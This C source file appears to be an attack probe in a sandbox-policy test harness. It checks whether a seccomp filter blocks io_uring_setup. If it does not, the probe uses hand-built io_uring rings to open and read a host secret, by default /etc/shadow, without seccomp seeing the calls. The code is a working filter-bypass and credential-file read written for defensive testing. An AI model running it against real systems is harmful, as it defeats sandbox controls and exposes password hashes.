/* io_uring: once a ring exists, reads, writes, opens and connects are submitted through
 * shared memory and performed by the kernel without a system call per operation, so a
 * seccomp filter never sees them. The default policy denies io_uring_setup (EPERM); if
 * a ring is ever granted, the attack uses it to openat+read the host secret to show what
 * the hole is worth. Raw syscalls and hand-built rings: no liburing to hide a result. */
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "probe.h"

/* The mapped rings of one io_uring instance (only what one-at-a-time submission needs). */
struct ring {
    int fd;
    unsigned *sq_tail, *sq_mask, *sq_array;
    unsigned *cq_head, *cq_tail, *cq_mask;
    struct io_uring_sqe *sqes;
    struct io_uring_cqe *cqes;
};

static void *map_ring(int fd, size_t len, off_t offset) {
    void *p = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, offset);
    return p == MAP_FAILED ? NULL : p;
}

/* Maps the rings of `fd`; on failure writes why into `why` and returns false. */
static bool map_rings(int fd, const struct io_uring_params *p, struct ring *r, char *why, size_t why_len) {
    size_t sq_len = p->sq_off.array + p->sq_entries * sizeof(unsigned);
    size_t cq_len = p->cq_off.cqes + p->cq_entries * sizeof(struct io_uring_cqe);
    const bool single = p->features & IORING_FEAT_SINGLE_MMAP;
    if (single && cq_len > sq_len) sq_len = cq_len;
    char *sq = map_ring(fd, sq_len, (off_t)IORING_OFF_SQ_RING);
    char *cq = single ? sq : map_ring(fd, cq_len, (off_t)IORING_OFF_CQ_RING);
    void *sqes = map_ring(fd, p->sq_entries * sizeof(struct io_uring_sqe), (off_t)IORING_OFF_SQES);
    if (!sq || !cq || !sqes) {
        snprintf(why, why_len, "mapping the rings failed: %s", ename(errno));
        return false;
    }
    r->fd = fd;
    r->sq_tail = (unsigned *)(sq + p->sq_off.tail);
    r->sq_mask = (unsigned *)(sq + p->sq_off.ring_mask);
    r->sq_array = (unsigned *)(sq + p->sq_off.array);
    r->cq_head = (unsigned *)(cq + p->cq_off.head);
    r->cq_tail = (unsigned *)(cq + p->cq_off.tail);
    r->cq_mask = (unsigned *)(cq + p->cq_off.ring_mask);
    r->cqes = (struct io_uring_cqe *)(cq + p->cq_off.cqes);
    r->sqes = sqes;
    return true;
}

/* Submits one SQE and waits for its completion. Returns true with the CQE's result in
 * *res; false (with `why`) when io_uring_enter itself fails or nothing completes. */
static bool submit_and_wait(struct ring *r, const struct io_uring_sqe *sqe, int *res, char *why, size_t why_len) {
    unsigned tail = *r->sq_tail; /* only we write the SQ tail */
    unsigned idx = tail & *r->sq_mask;
    r->sqes[idx] = *sqe;
    r->sq_array[idx] = idx;
    __atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE); /* publish the SQE */
    long rc;
    do {
        rc = syscall(SYS_io_uring_enter, (long)r->fd, 1L, 1L, (long)IORING_ENTER_GETEVENTS, NULL, 0L);
    } while (rc < 0 && errno == EINTR);
    if (rc < 0) {
        snprintf(why, why_len, "io_uring_enter: %s", ename(errno));
        return false;
    }
    unsigned head = *r->cq_head;
    if (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE)) {
        snprintf(why, why_len, "io_uring_enter returned %ld but nothing completed", rc);
        return false;
    }
    *res = r->cqes[head & *r->cq_mask].res;
    __atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
    return true;
}

/* With a granted ring: openat + read `path` through it. Describes the outcome in `out`. */
static void read_through_ring(int fd, const struct io_uring_params *p, const char *path, char *out,
                              size_t out_len) {
    struct ring r;
    if (!map_rings(fd, p, &r, out, out_len)) return;
    struct io_uring_sqe sqe;
    memset(&sqe, 0, sizeof sqe);
    sqe.opcode = IORING_OP_OPENAT;
    sqe.fd = AT_FDCWD;
    sqe.addr = (uint64_t)(uintptr_t)path;
    sqe.open_flags = O_RDONLY | O_CLOEXEC;
    int file = -1;
    if (!submit_and_wait(&r, &sqe, &file, out, out_len)) return;
    if (file < 0) {
        snprintf(out, out_len, "openat %s through the ring: %s", path, ename(-file));
        return;
    }
    static char buf[256];
    memset(&sqe, 0, sizeof sqe);
    sqe.opcode = IORING_OP_READ;
    sqe.fd = file;
    sqe.addr = (uint64_t)(uintptr_t)buf;
    sqe.len = sizeof buf;
    int n = -1;
    if (!submit_and_wait(&r, &sqe, &n, out, out_len)) return;
    if (n < 0)
        snprintf(out, out_len, "opened %s through the ring, read: %s", path, ename(-n));
    else
        snprintf(out, out_len, "read %d bytes of %s through the ring, unseen by seccomp", n, path);
}

void attack_io_uring_read_secret(void) {
    /* The host secret the caller named, else a host file the default policy hides. */
    const char *path = g_ctx->secret_path ? g_ctx->secret_path : "/etc/shadow";
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    long fd = syscall(SYS_io_uring_setup, 4L, &p);
    if (fd < 0) {
        int e = errno;
        /* Only the default deny's EPERM is the block (a seccomp kill is judged by the
         * driver as SIGSYS). ENOSYS, EINVAL, ENOMEM... mean the filter let the call
         * reach the kernel and only luck or the kernel's config stopped it. */
        if (e == EPERM) BLOCKED("io_uring_setup: EPERM");
        ESCAPED("io_uring_setup: %s (reached the kernel: not the policy's EPERM)", ename(e));
    }
    char what[400] = "";
    read_through_ring((int)fd, &p, path, what, sizeof what);
    ESCAPED("io_uring_setup granted a ring (fd %ld); %s", fd, what);
}
